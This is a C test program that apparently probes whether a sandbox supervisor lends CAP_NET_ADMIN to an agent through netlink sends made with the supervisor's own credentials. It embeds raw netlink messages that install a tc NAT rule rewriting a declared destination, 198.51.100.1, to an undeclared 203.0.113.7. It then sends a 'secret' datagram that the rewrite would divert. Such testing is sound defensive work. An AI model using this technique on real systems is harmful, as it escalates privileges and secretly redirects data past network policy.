/*
 * netlink-admin: a root agent without CAP_NET_ADMIN asks the kernel, over
 * NETLINK_ROUTE, for two changes that need it, each with sendto() naming
 * the kernel ({AF_NETLINK, pid 0}): a clsact qdisc on lo, then an egress
 * matchall filter on lo whose act_nat rewrites the destination 198.51.100.1
 * to 203.0.113.7. Then it sends one UDP datagram to 198.51.100.1:9. A named
 * netlink send is marked NETLINK_SKB_DST and the kernel then checks only the
 * sending task's capabilities: a supervisor that performs it with its own
 * would lend the agent CAP_NET_ADMIN, and the datagram to the declared
 * address would arrive at the undeclared 203.0.113.7:9.
 * Logs each request with the kernel's answer (the nlmsgerr error: 0, or the
 * errno it names) and the datagram's sendto. Exits 0 when both answers are
 * WANT (an errno name, or "ok"), 1 otherwise, 2 on a set-up failure.
 * With FD, the requests go through descriptor FD, a NETLINK_ROUTE socket
 * the caller opened (with its own credentials), instead of one of its own.
 *
 *     netlink-admin WANT [FD]
 */
#include "agentlib.h"

#include <arpa/inet.h>
#include <errno.h>
#include <linux/netlink.h>
#include <netinet/in.h>
#include <stdint.h>
#include <string.h>
#include <sys/socket.h>
#include <unistd.h>

/* Sends one request to the kernel by name and reads its acknowledgement.
 * Returns "ok", the errno name of a refusal, or "no-answer". */
static const char *request(int fd, const void *msg, size_t len, const char *what)
{
	struct sockaddr_nl k = {.nl_family = AF_NETLINK};
	unsigned char ans[4096];
	const char *got = "no-answer";
	int32_t err;
	ssize_t n;
	long r;

	r = sendto(fd, msg, len, 0, (const struct sockaddr *)&k, sizeof(k));
	agent_log("sendto", "netlink:pid=0", r, errno, NULL);
	if (r < 0)
		return agent_errno_name(errno);
	n = recv(fd, ans, sizeof(ans), 0);
	if (n >= (ssize_t)(sizeof(struct nlmsghdr) + sizeof(err))) {
		memcpy(&err, ans + sizeof(struct nlmsghdr), sizeof(err));
		got = err == 0 ? "ok" : agent_errno_name(-err);
		agent_log(what, "netlink:pid=0", err == 0 ? 0 : -1, -err, NULL);
	}
	return got;
}

int main(int argc, char **argv)
{
	/* RTM_NEWQDISC, NLM_F_REQUEST|ACK|EXCL|CREATE: tcmsg on ifindex 1 (lo),
	 * handle ffff:0, parent TC_H_CLSACT, TCA_KIND "clsact". */
	static const unsigned char qdisc[48] = {
	    48, 0, 0, 0, 36, 0, 0x05, 0x06, 1,   0,   0,    0,    0,    0,    0,    0,
	    0,  0, 0, 0, 1,  0, 0,    0,    0,   0,   0xff, 0xff, 0xf1, 0xff, 0xff, 0xff,
	    0,  0, 0, 0, 11, 0, 1,    0,    'c', 'l', 's',  'a',  'c',  't',  0,    0};
	/* RTM_NEWTFILTER on lo's egress (clsact parent ffff:fff3), ETH_P_ALL,
	 * TCA_KIND "matchall" with one action "nat": old 198.51.100.1/32,
	 * new 203.0.113.7, flags 0 (rewrite the destination). */
	static const unsigned char filter[116] = {
	    116,  0,    0,   0,    44,   0,    0x05, 0x06, 2,   0,   0,   0,    0,    0,    0,
	    0,    0,    0,   0,    0,    1,    0,    0,    0,   0,   0,   0,    0,    0xf3, 0xff,
	    0xff, 0xff, 0,   3,    0,    0,    13,   0,    1,   0,   'm', 'a',  't',  'c',  'h',
	    'a',  'l',  'l', 0,    0,    0,    0,    64,   0,   2,   0,   0x3c, 0,    2,    0,
	    0x38, 0,    1,   0,    8,    0,    1,    0,    'n', 'a', 't', 0,    0x2c, 0,    2,
	    0x80, 0x28, 0,   1,    0,    0,    0,    0,    0,   0,   0,   0,    0,    0,    0,
	    0,    0,    0,   0,    0,    0,    0,    0,    0,   0,   198, 51,   100,  1,    203,
	    0,    113,  7,   0xff, 0xff, 0xff, 0xff, 0,    0,   0,   0};
	struct sockaddr_in to = {.sin_family = AF_INET, .sin_port = htons(9)};
	const char *q, *f;
	int nl, u;
	long r;

	agent_init("netlink-admin");
	if (argc != 2 && argc != 3)
		return agent_usage("WANT [FD]");
	nl = argc == 3 ? (int)agent_parse_count(argv[2])
		       : socket(AF_NETLINK, SOCK_RAW | SOCK_CLOEXEC, NETLINK_ROUTE);
	u = socket(AF_INET, SOCK_DGRAM | SOCK_CLOEXEC, 0);
	if (nl < 0 || u < 0)
		return 2;
	q = request(nl, qdisc, sizeof(qdisc), "new_qdisc");
	f = request(nl, filter, sizeof(filter), "new_filter");
	inet_pton(AF_INET, "198.51.100.1", &to.sin_addr);
	r = sendto(u, "netlink-admin-secret\n", 21, 0, (const struct sockaddr *)&to, sizeof(to));
	agent_log("sendto", "198.51.100.1:9", r, errno, NULL);
	return strcmp(q, argv[1]) == 0 && strcmp(f, argv[1]) == 0 ? 0 : 1;
}
